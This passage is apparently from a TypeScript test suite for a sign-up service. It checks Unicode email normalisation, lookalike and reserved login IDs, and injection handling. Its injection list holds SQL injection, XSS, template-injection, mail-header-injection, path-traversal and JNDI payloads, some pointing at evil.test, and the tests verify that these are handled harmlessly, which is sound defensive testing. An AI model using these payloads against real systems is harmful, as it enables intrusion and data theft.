    const owner = await given.member(app);
    const [local, domain] = owner.email.split('@') as [string, string];
    const spellings = [
      owner.email.toUpperCase(),
      `${local}@EXAMPLE.test`,
      `${local}@\uff45\uff58ample.test`, // full-width letters, which IDNA maps
      ` ${owner.email} `,
      `\u00a0${owner.email}\n`,
      `\ufeff${local}\u200b@${domain}\u202e`,
      `${local}\uff20${domain.replace('.', '\u3002')}`, // as an input method for Korean or Japanese types it
    ];
    for (const email of spellings) {
      await app.sql.query('DELETE FROM rate_limits');
      const known = (await mailbox.to(owner.email).all()).at(-1);
      await app.post(SIGN_UP, { ...unique.signUp(), email }).expect(202);
      const notice = await mailbox.to(owner.email).next({ after: known });
      expect([email, notice.subject]).toEqual([email, '[Munjigi] You already have an account']);
    }
    const { rowCount } = await app.sql.query('SELECT FROM sign_ups WHERE email_key = $1', [`${local}@${domain}`]);
    expect(rowCount).toBe(1 + spellings.length);
  });
});

describe('a login ID with lookalike characters', () => {
  it('IV-06 IV-10 a lookalike is refused; another case or width is the same login ID', async () => {
    const lookAlikes = ['\u212aate1234', 'k\u0430te1234', 'k\u1d43te1234'];
    const malformed = ['ka\u0301te1234', '\ufb01ona123', 'kate 1234', 'kate\u00001234', '../kate1234', 'kate@1234'];
    for (const loginId of [...lookAlikes, ...malformed]) {
      const { body } = await app.post(SIGN_UP, { ...unique.signUp(), loginId }).expect(422);
      expect([loginId, body.errors]).toEqual([
        loginId,
        [{ field: 'loginId', code: 'login_id_invalid', message: expect.any(String) }],
      ]);
    }
    const kate = await given.member(app, { loginId: `k${unique.loginId()}` });
    const login = (identifier: string) => app.client().post('/api/auth/login', { identifier, password: kate.password });
    await login(kate.loginId.toUpperCase()).expect(200);
    await login(kate.loginId.replace('k', '\u212a')).expect(401);
    // Full-width letters and invisible characters from a keyboard or a paste do not make another login ID.
    await login(kate.loginId.replace('k', '\uff4b')).expect(200);
    await login(`\ufeff${kate.loginId}\u200b\r\n`).expect(200);
    const spelling = `\u200b${kate.loginId} `;
    const { body } = await app.post('/api/auth/login-id/check', { loginId: spelling }).expect(200);
    expect(body).toEqual({ available: false, reason: 'taken' });
  });

  it('IV-06 a reserved login ID is refused', async () => {
    for (const loginId of ['admin', 'ADMIN', ' admin ', 'ad.min', 'a-d-m-i-n', 'no_reply', 'postmaster', 'munjigi']) {
      const { body } = await app.post(SIGN_UP, { ...unique.signUp(), loginId }).expect(422);
      expect(body.errors).toMatchObject([{ field: 'loginId', code: 'login_id_reserved' }]);
    }
  });
});

describe('text with a meaning in another language', () => {
  const INJECTIONS = [
    "' OR 1=1--",
    "'; DROP TABLE members;--",
    "' || pg_sleep(20)--",
    '$1',
    '{{7*7}}',
    '${7*7}',
    '{{constructor.constructor("return 1")()}}',
    '{{> layout}}',
    '<%= 7*7 %>',
    '#{7*7}',
    '<img src=x onerror=alert(1)>',
    '</title><script>alert(1)</script>',
    '"><a href="https://evil.test">click</a>',
    '[click](https://evil.test)',
    'javascript:alert(1)',
    'https://evil.test/login',
    '%0d%0aBcc:eve@example.test',
    '=?utf-8?q?=0d=0aBcc:_eve@example.test?=',
    '../../etc/passwd',
    '%s%n%x',
    '${jndi:ldap://evil.test/a}',
  ];

  it('ML-05 markup and templates in a name are mailed as plain text', async () => {
    await each(INJECTIONS, async (name) => {
      const values = { ...unique.signUp(), name };
      const client = app.client({ headers: { 'user-agent': name } });
      const { status } = await client.post(SIGN_UP, values);
      expect([name, status]).toEqual([name, 202]);
      const mail = await mailbox.to(values.email).next();
      expect([name, mail.to, mail.subject]).toEqual([name, [values.email], '[Munjigi] Confirm your sign-up']);
      expect([name, mail.headers.has('bcc'), mail.headers.has('cc')]).toEqual([name, false, false]);
      expect(mail.text).not.toMatch(/Hello \D{0,3}49/); // no template was evaluated
      expect(mail.html).not.toMatch(/Hello \D{0,3}49/);
      // No injected markup and no foreign link.
      expect(mail.html).not.toMatch(/<(img|script)\b/i);
      expect([name, mail.links]).toEqual([name, [expect.stringMatching(/^http:\/\/localhost:3000\/pages\//)]]);
      const targets = [...mail.html.matchAll(/\b(?:href|src)="([^"]*)"/g)].map(([, target]) => target);
      for (const target of targets) expect(target).toMatch(/^http:\/\/localhost:3000\/pages\/confirm-sign-up#/);
    });
    const { rowCount } = await app.sql.query('SELECT FROM sign_ups WHERE name = ANY($1)', [INJECTIONS]);
    expect(rowCount).toBe(INJECTIONS.length); // stored as typed
    await expectUnharmed();
  });

  it('IV-05 injections into any other field find nothing and break nothing', async () => {
    const before = await membersNow();
    const sleeps = await countPgSleeps(app);
    let fieldCount = 0;
    const cases = operations.flatMap((operation) =>
      Object.entries(operation.fields)
        // Left out: a name, a description and a new password may hold such text.
        .filter(
          ([name, { type }]) => type === 'string' && !/^(name|description)$/.test(name) && !/newPassword/.test(name),
        )
        .flatMap(([name]) => quarterOf(INJECTIONS, fieldCount++).map((value) => ({ operation, name, value }))),
    );
    await each(cases, async ({ operation, name, value }) => {
      const what = `${operation.path} ${name}: ${value}`;
      const answer = await send(operation, { body: { ...operation.body, [name]: value } });
      must(answer.status < 500, what, answer.status);
      const isFromDatabase =
        /syntax error|\bpg_(catalog|class|sleep|stat|user|type|shadow)|relation "|column "|at character/i;
      must(!isFromDatabase.test(answer.text), what, answer.text);
      const takesAnyText =
        /(verify|introspect) token|login-id\/check|sign-up password|sign-up\/?[\w-]* deviceName|me\/[\w/]+ code|webhooks url/;
      if (answer.status >= 400) expectProblem(answer, what);
      else must(takesAnyText.test(what), what, answer.status);
    });
    expect(await sleeps()).toBe(0);
    expect(await membersNow()).toEqual(before);
    await expectUnharmed();
  });
});
